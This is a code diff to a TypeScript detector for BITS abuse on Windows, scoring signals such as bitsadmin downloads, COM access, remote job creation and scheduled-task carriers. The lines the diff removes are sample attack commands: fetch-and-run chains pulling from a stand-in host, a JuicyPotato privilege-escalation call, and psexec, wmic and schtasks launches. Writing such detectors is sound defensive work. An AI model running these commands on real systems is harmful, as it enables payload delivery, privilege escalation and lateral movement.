@@ -16,53 +16,43 @@ const starters = ['start', 'start-process', 'saps', 'invoke-item', 'ii', 'msiexe
 const moves = (facts: Facts): boolean => isPersonsTool(facts) && has(facts, 'transfer', 'addfile', 'addfilewithranges', 'addfileset');
 const other = (facts: Facts, names: readonly string[]): string | undefined => (isPersonsTool(facts) ? facts.others.find((name) => names.includes(name)) : undefined);
 const isLog = ({ evidence }: Facts): boolean => evidence === 'bitsclient' || evidence === 'imageload';
-const bitsadmin = 'bitsadmin.exe';
 
 export const executionSignals: readonly Signal[] = [
   {
     id: 'transfer', family: 'execution', impact: 60, confidence: 30, techniques: ['T1197'],
     reason: (facts) => (moves(facts) ? `${toolOf(facts)} moves files by hand or by script` : undefined),
-    examples: [{ process_name: bitsadmin, process: 'bitsadmin /transfer job https://files.example.net/a C:\\d\\a' }, { ScriptBlockText: 'Start-BitsTransfer https://files.example.net/a C:\\d\\a' }],
   },
   {
     id: 'client-bitsadmin', family: 'execution', impact: 70, confidence: 74, techniques: ['T1197'],
     reason: (facts) => (isLog(facts) && programName(facts.actor.image) === 'bitsadmin' ? 'the job was made by bitsadmin, which updaters do not use' : undefined),
-    examples: [{ SourceName: 'Microsoft-Windows-Bits-Client', EventCode: '3', jobTitle: 'n', jobOwner: 'EXAMPLE\\pat', processPath: 'C:\\Windows\\System32\\bitsadmin.exe' }],
   },
   {
     id: 'client-powershell', family: 'execution', impact: 65, confidence: 45, techniques: ['T1197', 'T1059.001'],
     reason: (facts) => (isLog(facts) && ['powershell', 'pwsh', 'powershell_ise'].includes(programName(facts.actor.image)) ? 'the client of BITS is PowerShell' : undefined),
-    examples: [{ SourceName: 'Microsoft-Windows-Bits-Client', EventCode: '3', jobTitle: 'n', jobOwner: 'EXAMPLE\\pat', processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' }],
   },
   {
     id: 'client-odd', family: 'execution', impact: 80, confidence: 70, techniques: ['T1197'],
     reason: (facts) => (isLog(facts) && odd.includes(programName(facts.actor.image)) ? `${quoted(facts.actor.image ?? '')} talks to BITS, which it never does by itself` : undefined),
-    examples: [{ SourceName: 'Microsoft-Windows-Bits-Client', EventCode: '3', jobTitle: 'n', jobOwner: 'EXAMPLE\\pat', processPath: 'C:\\Windows\\System32\\calc.exe' }],
   },
   {
     id: 'client-staged', family: 'execution', impact: 70, confidence: 25, techniques: ['T1197'],
     reason: (facts) => (isLog(facts) && facts.actor.image !== undefined && isUserWritable({ text: facts.actor.image, kind: 'local' }) ? `the client of BITS, ${quoted(facts.actor.image)}, lies where any user may write` : undefined),
-    examples: [{ SourceName: 'Microsoft-Windows-Bits-Client', EventCode: '3', jobTitle: 'n', jobOwner: 'EXAMPLE\\pat', processPath: 'C:\\Users\\Public\\a.exe' }],
   },
   {
     id: 'com', family: 'execution', impact: 70, confidence: 45, techniques: ['T1197'],
     reason: ({ tools, evidence }) => (tools.includes('com') && (evidence === 'process' || evidence === 'script') ? 'a script talks to BITS through its programming interface, past the usual commands' : undefined),
-    examples: [{ ScriptBlockText: '$m = [Activator]::CreateInstance([Type]::GetTypeFromCLSID("4991d34b-80a1-4291-83b6-3328366b9097"))' }],
   },
   {
     id: 'remote-job', family: 'execution', impact: 80, confidence: 70, techniques: ['T1197', 'T1021.006'],
     reason: ({ tools }) => (tools.includes('winrm') ? 'the job is made through WinRM, as on another machine' : undefined),
-    examples: [{ process_name: 'powershell.exe', process: 'powershell -c "Invoke-WsmanAction -Action CreateJob -ResourceUri wmi/root/microsoft/bits/BitsClientJob -ValueSet @{DisplayName=\'u\';RemoteUrl=\'https://files.example.net/a\';LocalFile=\'C:\\d\\a\'} -ComputerName srv07"' }],
   },
   {
     id: 'lockscreen', family: 'execution', impact: 80, confidence: 70, techniques: ['T1105'],
     reason: ({ tools, evidence, transfers }) => (tools.includes('desktopimgdownldr') && evidence === 'process' && transfers.length > 0 ? 'desktopimgdownldr, meant for lock screen pictures, fetches any file it is told to' : undefined),
-    examples: [{ process_name: 'desktopimgdownldr.exe', process: 'desktopimgdownldr.exe /lockscreenurl:https://files.example.net/a.7z /eventName:e' }],
   },
   {
     id: 'coercion', family: 'execution', impact: 90, confidence: 80, techniques: ['T1134.001'],
     reason: ({ tools }) => (tools.includes('coercion') ? 'the BITS service is made to log on to a program of the caller, which takes its rights' : undefined),
-    examples: [{ process_name: 'a.exe', process: 'JuicyPotato.exe -l 1337 -p c:\\windows\\system32\\cmd.exe -t * -c {4991d34b-80a1-4291-83b6-3328366b9097}' }],
   },
   {
     id: 'fetch-and-run', family: 'execution', impact: 85, confidence: 55, techniques: ['T1105', 'T1059'],
@@ -70,7 +60,6 @@ export const executionSignals: readonly Signal[] = [
       const name = other(facts, decoders);
       return name && `the same command also uses ${name}, which decodes or runs what was fetched`;
     },
-    examples: [{ ScriptBlockText: 'Start-BitsTransfer https://files.example.net/a C:\\d\\a; iex (gc C:\\d\\a)' }],
   },
   {
     id: 'fetch-and-start', family: 'execution', impact: 70, confidence: 25, techniques: ['T1105'],
@@ -78,12 +67,10 @@ export const executionSignals: readonly Signal[] = [
       const name = other(facts, starters);
       return name && `the same command also uses ${name}, which starts a program`;
     },
-    examples: [{ ScriptBlockText: 'Start-BitsTransfer https://files.example.net/a C:\\d\\a.exe; Start-Process C:\\d\\a.exe' }],
   },
   {
     id: 'wmi-carrier', family: 'execution', impact: 80, confidence: 55, techniques: ['T1047'],
     reason: ({ carriers }) => (carriers.includes('wmic') || carriers.includes('wmi') ? 'the command is carried by WMI, as to another machine' : undefined),
-    examples: [{ process_name: 'wmic.exe', process: 'wmic process call create "bitsadmin /transfer job https://files.example.net/a C:\\d\\a"' }],
   },
   {
     id: 'remote-carrier', family: 'execution', impact: 80, confidence: 55, techniques: ['T1197'],
@@ -91,12 +78,10 @@ export const executionSignals: readonly Signal[] = [
       const carrier = carriers.find((name) => name === 'psexec' || name === 'winrs' || name === 'invoke-command');
       return carrier && `the command is carried by ${carrier} to another machine`;
     },
-    examples: [{ process_name: 'psexec.exe', process: 'psexec \\\\srv07 bitsadmin /transfer job https://files.example.net/a C:\\d\\a' }],
   },
   {
     id: 'scheduled', family: 'execution', impact: 75, confidence: 45, techniques: ['T1053.005'],
     reason: ({ carriers }) => (carriers.includes('schtasks') || carriers.includes('at') ? 'the command is put into a scheduled task' : undefined),
-    examples: [{ process_name: 'schtasks.exe', process: 'schtasks /create /tn t /sc once /st 10:00 /tr "bitsadmin /transfer job https://files.example.net/a C:\\d\\a"' }],
   },
   {
     id: 'script-host', family: 'execution', impact: 80, confidence: 50, techniques: ['T1218'],
@@ -104,6 +89,5 @@ export const executionSignals: readonly Signal[] = [
       const carrier = carriers.find((name) => name === 'mshta' || name === 'rundll32' || name === 'pcalua' || name === 'forfiles');
       return carrier && `the command is carried by ${carrier}, which hides who started it`;
     },
-    examples: [{ process_name: 'forfiles.exe', process: 'forfiles /p C:\\Windows /m notepad.exe /c "bitsadmin /transfer job https://files.example.net/a C:\\d\\a"' }],
   },
 ];
